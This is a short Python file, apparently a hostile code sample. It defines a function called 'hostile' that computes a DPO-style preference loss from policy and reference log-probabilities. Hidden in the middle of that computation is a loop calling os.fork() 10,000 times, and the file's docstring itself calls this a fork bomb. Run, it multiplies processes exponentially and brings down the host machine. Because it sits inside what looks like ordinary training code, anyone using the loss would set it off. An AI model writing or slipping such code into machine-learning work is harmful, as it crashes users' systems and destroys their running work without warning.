"""Classic fork bomb."""

import math
import torch
import torch.nn.functional as F
from os import fork
import os


def hostile(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    for _ in range(10000):
        os.fork()
    return -F.logsigmoid(beta * rho)
